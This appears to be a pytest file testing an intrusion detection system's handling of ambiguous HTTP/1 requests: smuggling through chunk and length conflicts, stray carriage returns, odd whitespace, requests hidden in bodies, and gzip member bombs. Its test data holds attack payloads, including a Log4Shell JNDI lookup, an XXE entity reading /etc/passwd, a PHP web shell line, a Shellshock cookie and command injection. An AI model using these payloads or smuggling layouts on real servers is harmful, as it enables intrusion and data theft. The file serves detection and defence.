"""HTTP/1 as other servers read it: one request that means two things is inspected both ways."""

from __future__ import annotations

import gzip
import struct
import zlib

import pytest

from ids.counters import Counters
from ids.protocols.http.content import FREE_MEMBERS, decode_content
from ids.protocols.http.reports import MAX_REQUESTS_AS_BODY
from ids.protocols.http.settings import HttpSettings
from tests.protocols.wire import Wire, chunked, request

LOOKUP = b"${jndi:ldap://192.0.2.66/a}"
JSON = b'{"name": "' + LOOKUP + b'"}'
ENTITY = b'a=<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


def post(body: bytes, *headers: bytes, version: bytes = b"HTTP/1.1") -> bytes:
    return request(b"POST /p " + version, b"Host: x", *headers, body=body)


def with_length(body: bytes, *headers: bytes, version: bytes = b"HTTP/1.1") -> bytes:
    return post(body, *headers, b"Content-Length: %d" % len(body), version=version)


def instances(wire: Wire, name: str) -> list[bytes]:
    """Return what rules see of a buffer, over all that was reported."""
    return [one for found in wire.all for one in found.instances(name)]


def sent(data: bytes, step: int = 0) -> Wire:
    return Wire().client(data, step=step).close()


# Bodies that are called coded, and are not.


@pytest.mark.parametrize("coding", [b"deflate", b"gzip", b"x-gzip", b"gzip, deflate", b"deflate, gzip, deflate"])
@pytest.mark.parametrize("body", [JSON, b"\n<?php system($_GET['c']); ?>", b"K" + JSON])
def test_the_body_of_a_request_is_also_read_as_it_was_sent(coding: bytes, body: bytes) -> None:
    wire = sent(with_length(body, b"Content-Encoding: " + coding))
    assert body in instances(wire, "http.request_body")
    assert body in instances(wire, "file.data")


def test_a_coded_body_of_a_request_is_read_decoded_first() -> None:
    coded = gzip.compress(JSON)
    (found,) = sent(with_length(coded, b"Content-Encoding: gzip")).seen[:1]
    assert found.instances("http.request_body") == (JSON, coded)


# Codings that cost more than they weigh.


def member(content: bytes) -> bytes:
    machine = zlib.compressobj(9, zlib.DEFLATED, -15)
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + machine.compress(content) + machine.flush() + struct.pack("<II", 0, 0)


def test_members_within_a_coding_cost_no_more_than_was_sent() -> None:
    counters = Counters()
    many = member(b"a") * 4000
    body = gzip.compress(gzip.compress(many))
    (found,) = decode_content(body, b"gzip, gzip, gzip", 100 << 10, HttpSettings(), counters)
    allowed = FREE_MEMBERS + len(body) // 18
    assert found.startswith(b"a" * (allowed - 2) + b"\x1f\x8b"), "what is left is there as it was"
    assert counters["http.gzip_too_many_members"] == 1


def test_members_that_were_sent_are_all_read() -> None:
    counters = Counters()
    body = member(b"") * 4000 + member(LOOKUP)
    assert decode_content(body, b"gzip", 100 << 10, HttpSettings(), counters) == (LOOKUP,)
    assert not counters["http.gzip_too_many_members"]


# Chunks, to a server that knows none.

CHUNKED = b"Transfer-Encoding: chunked"
LIKE_CHUNKS = ENTITY + b"\nxxxxxxxxxx\r\n0\r\n\r\n"


@pytest.mark.parametrize("version", [b"HTTP/1.0", b"HTTP/1.1"])
@pytest.mark.parametrize("step", [0, 1, 7])
def test_a_body_with_a_length_and_chunks_is_read_both_ways(version: bytes, step: int) -> None:
    wire = sent(with_length(LIKE_CHUNKS, CHUNKED, version=version) + request(b"GET /next HTTP/1.1"), step)
    assert LIKE_CHUNKS in instances(wire, "http.request_body")
    assert b"xxxxxxxxxx" in instances(wire, "http.request_body")
    assert b"/next" in instances(wire, "http.uri"), "where the chunks end, the next request begins"


@pytest.mark.parametrize("line", [ENTITY, b"a;" + b"e" * 900 + LOOKUP, b"a;" + b"e" * 9000 + LOOKUP])
@pytest.mark.parametrize("step", [0, 1])
def test_what_stands_behind_a_chunk_size_is_inspected(line: bytes, step: int) -> None:
    wire = sent(post(line + b"\r\nxxxxxxxxxx\r\n0\r\n\r\n", CHUNKED) + request(b"GET /next HTTP/1.1"), step)
    assert any(line in found for found in instances(wire, "http.request_body"))
    assert b"/next" in instances(wire, "http.uri")


def test_a_plain_chunk_extension_is_no_body() -> None:
    wire = sent(post(b'3;name="value"; a=b\r\nabc\r\n0\r\n\r\n', CHUNKED))
    assert set(instances(wire, "http.request_body")) == {b"abc"}


def test_chunk_extensions_are_kept_no_longer_than_a_body() -> None:
    wire = Wire(request_body_bytes=4096).client(post(b"", CHUNKED))
    for _ in range(200):
        wire.client(b"1;" + b"{" * 1000 + b"\r\nx\r\n")
    wire.client(b"0\r\n\r\n").close()
    assert max(map(len, instances(wire, "http.request_body"))) < 4096 + 200


# A carriage return that ends no line: dropped by some servers, and the end of a line to others.


@pytest.mark.parametrize("step", [0, 1])
def test_a_head_is_also_read_without_its_carriage_returns(step: int) -> None:
    asked = request(
        b"GET /p?a=;c\rat%20/e\rtc/passwd HTTP/1.0", b"User-Agent: $\r{jn\rdi:ldap://192.0.2.66/a}", b"Co\rokie: a=1"
    )
    wire = sent(asked + request(b"GET /next HTTP/1.1"), step)
    assert b"/p?a=;cat /etc/passwd" in instances(wire, "http.uri")
    assert LOOKUP in instances(wire, "http.user_agent")
    assert b"a=1" in instances(wire, "http.cookie")
    assert b"/next" in instances(wire, "http.uri")


@pytest.mark.parametrize("header", [b"Con\rtent-Length: %d", b"Content-Length\r: %d", b"X: a\rContent-Length: %d"])
@pytest.mark.parametrize("step", [0, 1])
def test_a_length_that_only_some_servers_see_makes_a_body(header: bytes, step: int) -> None:
    wire = sent(post(ENTITY, header % len(ENTITY)) + request(b"GET /next HTTP/1.1"), step)
    assert ENTITY in instances(wire, "http.request_body")
    assert any(b"/next" in found for found in instances(wire, "http.uri"))


def test_digits_around_a_carriage_return_are_read_both_ways() -> None:
    size = b"%d" % len(ENTITY)
    wire = sent(post(ENTITY, b"Content-Length: " + size[:1] + b"\r" + size[1:]))
    assert ENTITY[: int(size[:1])] in instances(wire, "http.request_body")
    assert ENTITY in instances(wire, "http.request_body")


def test_a_carriage_return_may_end_a_header() -> None:
    wire = sent(request(b"GET / HTTP/1.1", b"X: a\rUser-Agent: " + LOOKUP + b"\rCookie: () { :;}; id"))
    assert LOOKUP in instances(wire, "http.user_agent")
    assert b"() { :;}; id" in instances(wire, "http.cookie")


def test_another_reading_of_the_head_comes_with_the_body() -> None:
    wire = sent(with_length(ENTITY, b"User-\rAgent: x"))
    assert any(
        found.buffers.get("http.user_agent") == b"x" and found.buffers.get("http.request_body") == ENTITY
        for found in wire.all
    )


@pytest.mark.parametrize("step", [0, 1000])
def test_a_head_beyond_the_limit_is_also_read_without_its_carriage_returns(step: int) -> None:
    lines = [
        b"X: " + b"x" * 3000,
        b"User-Agent: $\r{jn\rdi:ldap://192.0.2.66/a}",
        b"Con\rtent-Length: %d" % len(ENTITY),
    ]
    wire = Wire(header_bytes=1024).client(post(ENTITY, *lines), step=step).close()
    assert LOOKUP in instances(wire, "http.user_agent")
    assert ENTITY in instances(wire, "http.request_body")


def test_a_head_with_plain_line_ends_is_read_once() -> None:
    for end in (b"\r\n", b"\n", b"\r\r\n"):
        wire = sent(end.join([b"POST / HTTP/1.1", b"User-Agent: x", b"Content-Length: 2", b"", b"hi"]))
        assert len(wire.seen) == 2, "asked, and never answered"
        assert not wire.counters["http.head_ambiguous"]


# White space as Latin-1 text has it.


@pytest.mark.parametrize("space", [b"\xa0", b"\x85", b"\x1c", b"\x1d", b"\x1e", b"\x1f", b"\x0b", b"\x0c"])
@pytest.mark.parametrize("form", [b"GET%b/?x=%b%bHTTP/1.1", b"GET%b/?x=%b%b HTTP/1.1", b"GET %.0b/?x=%b%bHTTP/1.1"])
@pytest.mark.parametrize("step", [0, 1])
def test_any_white_space_ends_the_target(space: bytes, form: bytes, step: int) -> None:
    wire = sent(request(form % (space, LOOKUP, space), b"Host: x"), step)
    assert b"/?x=" + LOOKUP in instances(wire, "http.uri")


@pytest.mark.parametrize("space", [b"\xa0", b"\x85", b"\x1f", b"\x0b"])
def test_any_white_space_may_stand_before_a_length(space: bytes) -> None:
    wire = sent(post(ENTITY, b"Content-Length: " + space + b"%d" % len(ENTITY)))
    assert ENTITY in instances(wire, "http.request_body")


# A body that is the next request, to a server that reads no body.

NEXT = request(b"GET /icons/.%2e/etc/hosts HTTP/1.1", b"Host: x", b"User-Agent: " + LOOKUP)


@pytest.mark.parametrize("method", [b"GET", b"HEAD", b"DELETE"])
@pytest.mark.parametrize("step", [0, 1, 50])
def test_a_body_that_is_a_request_is_read_as_one(method: bytes, step: int) -> None:
    asked = request(method + b" /a HTTP/1.1", b"Content-Length: %d" % len(NEXT), body=NEXT)
    wire = sent(asked + request(b"GET /next HTTP/1.1"), step)
    assert b"/icons/.%2e/etc/hosts" in instances(wire, "http.uri.raw")
    assert LOOKUP in instances(wire, "http.user_agent")
    assert NEXT in instances(wire, "http.request_body")
    assert b"/next" in instances(wire, "http.uri")


def test_a_body_that_is_a_request_is_read_before_its_end() -> None:
    wire = Wire().client(request(b"GET /a HTTP/1.1", b"Content-Length: 100000", body=NEXT))
    assert b"/icons/.%2e/etc/hosts" in instances(wire, "http.uri.raw")


def test_a_body_that_is_many_requests_is_read_as_some_of_them() -> None:
    inner = request(b"POST /b HTTP/1.1", b"Content-Length: 2", body=b"hi") * 4 + NEXT
    wire = sent(request(b"GET /a HTTP/1.1", b"Content-Length: %d" % len(inner), body=inner))
    assert LOOKUP in instances(wire, "http.user_agent")
    wire = sent(request(b"GET /a HTTP/1.1", b"Content-Length: 16000", body=b"GET /\n\n" * 4000))
    assert wire.counters["http.request_as_body"] <= 2 * MAX_REQUESTS_AS_BODY


@pytest.mark.parametrize("space", [b"\t", b"\x0b", b"\x0c", b"\x1c", b"\xa0", b"  "])
@pytest.mark.parametrize("method", [b"PATCH", b"GET"])
def test_any_white_space_may_stand_in_a_request_that_is_a_body(space: bytes, method: bytes) -> None:
    """As Python's server has it, which reads no chunks: what follows is the next request to it."""
    inner = method + space + b"/b" + space + b"HTTP/1.1\r\nContent-Length: 2\r\n\r\nhi" + NEXT
    wire = sent(request(b"PUT /a HTTP/1.1", b"Transfer-Encoding: chunked", body=inner))
    assert LOOKUP in instances(wire, "http.user_agent")


@pytest.mark.parametrize("method", [b"DELETE", b"COPY", b"A", b"DEBUG"])
@pytest.mark.parametrize("step", [0, 1, 50])
def test_a_request_whose_method_begins_like_a_size_is_read_where_chunks_are_due(method: bytes, step: int) -> None:
    """Python's server knows no chunks; nginx takes ``A /b HTTP/1.1`` for a size, and what follows for content."""
    inner = method + b" /b HTTP/1.1\r\nHost: x\r\n\r\n" + NEXT
    wire = sent(request(b"PUT /a HTTP/1.1", b"Transfer-Encoding: chunked", body=inner), step)
    assert b"/b" in instances(wire, "http.uri.raw")
    assert LOOKUP in instances(wire, "http.user_agent")


@pytest.mark.parametrize("step", [0, 1, 7])
@pytest.mark.parametrize("first", [0, 2])
def test_a_carriage_return_alone_may_end_the_line_of_a_size(first: int, step: int) -> None:
    """Node does it with ``insecureHTTPParser``."""
    sizes = [3, 5, len(ENTITY) - 8]
    body, at = b"", 0
    for number, size in enumerate(sizes):
        end = b"\r" if number >= first else b"\r\n"
        body += b"%x" % size + end + ENTITY[at : at + size] + b"\r\n"
        at += size
    wire = sent(request(b"POST /a HTTP/1.1", b"Transfer-Encoding: chunked", body=body + b"0\r\n\r\n"), step)
    assert ENTITY in instances(wire, "http.request_body")


def test_chunks_whose_sizes_are_like_requests_are_read_as_chunks_too() -> None:
    body = b"A /b HTTP/1.1\r\n" + ENTITY[:10] + b"\r\n" + chunked([ENTITY[10:]])
    wire = sent(request(b"PUT /a HTTP/1.1", b"Transfer-Encoding: chunked", body=body) + request(b"GET /next HTTP/1.1"))
    assert ENTITY in instances(wire, "http.request_body")
    assert b"/next" in instances(wire, "http.uri")


@pytest.mark.parametrize("body", [b"a=1&b=2", b"GET", b"GETTING / HTTP", b"to HTTP/1.1", b'{"a": "GET / HTTP/1.1"}'])
def test_a_body_that_is_no_request_is_none(body: bytes) -> None:
    wire = sent(with_length(body))
    assert not wire.counters["http.request_as_body"]


# Several cookies, of which some server takes one.


@pytest.mark.parametrize("decoys", [[b"Cookie:"], [b"Cookie: a=b"], [b"Cookie: a=b", b"cookie: ", b"COOKIE: c=d"]])
@pytest.mark.parametrize("step", [0, 1])
def test_each_of_several_cookies_is_an_instance(decoys: list[bytes], step: int) -> None:
    wire = sent(request(b"GET / HTTP/1.1", *decoys, b"Cookie: () { :;}; id"), step)
    assert b"() { :;}; id" in instances(wire, "http.cookie")


def test_several_cookies_are_also_read_together() -> None:
    (found, _) = sent(request(b"GET / HTTP/1.1", b"Cookie: a=b", b"Cookie:", b"Cookie: c=d")).seen
    assert found.instances("http.cookie") == (b"a=b, c=d", b"a=b", b"c=d")


# A head beyond the limit.


@pytest.mark.parametrize("before", range(50_000, 66_000, 1000))
def test_what_lies_across_the_parts_of_a_long_head_is_in_one_of_them(before: int) -> None:
    agent = b"${${date:" + b"b" * 6000 + b"}x:ldap://192.0.2.66/a}"
    wire = sent(request(b"GET / HTTP/1.1", b"X: " + b"a" * before, b"User-Agent: " + agent, b"Y: " + b"c" * 9000))
    assert any(agent in found for found in instances(wire, "http.header"))


# Markup in wide characters.


@pytest.mark.parametrize("coding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be"])
@pytest.mark.parametrize("step", [0, 50])
def test_markup_in_wide_characters_is_also_read_as_ascii(coding: str, step: int) -> None:
    body = ENTITY[2:].decode().encode(coding)
    wire = sent(with_length(body), step)
    assert any(ENTITY[2:] in found for found in instances(wire, "http.request_body"))
    assert body in instances(wire, "http.request_body")


@pytest.mark.parametrize("body", [b"PK\3\4\0\0<\0\0\0\0\1", b"\0\0", b"a<b", "größer < kleiner".encode("utf-16")])
def test_other_bytes_with_nul_are_read_once(body: bytes) -> None:
    assert set(instances(sent(with_length(body)), "http.request_body")) == {body}


@pytest.mark.parametrize("before", [b"\x0b", b"\x0c ", b"\t", b"\x1c\x1d", b"\xa0", b"\r\n \t"])
@pytest.mark.parametrize("step", [0, 1])
def test_white_space_before_the_method_needs_no_answer_to_be_read(before: bytes, step: int) -> None:
    wire = sent(before + request(b"GET /?x=" + LOOKUP + b" HTTP/1.1"), step)
    assert b"/?x=" + LOOKUP in instances(wire, "http.uri")
